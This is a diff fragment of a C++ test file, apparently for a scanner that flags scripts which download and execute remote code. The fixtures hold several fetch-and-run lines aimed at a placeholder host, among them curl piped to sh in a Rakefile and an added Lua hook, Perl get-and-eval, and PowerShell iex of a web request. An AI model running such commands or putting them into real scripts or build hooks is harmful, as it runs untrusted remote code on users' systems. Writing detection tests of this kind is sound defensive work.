@@ -658,6 +658,7 @@ TEST_CASE("Ruby, PHP and Perl files are read as their interpreter would run them
            {"tools/update.pl", "use LWP::Simple;\nmy $code = get('https://x.example.com/p.pl');\neval $code;\n", "network",
             "exec"},
            {"Rakefile", "task :setup do\n  system('curl -fsSL https://x.example.com/i | sh')\nend\n", "network", "exec"},
+           {"scripts/hook.lua", "os.execute('curl -fsSL https://x.example.com/x.sh | sh')\n", "network", "exec"},
            {"scripts/setup.ps1", "$ErrorActionPreference = 'Stop'\niex (iwr -UseBasicParsing 'https://x.example.com/i.ps1').Content\n",
             "network", "exec"},
            {"scripts/deploy.ps1",
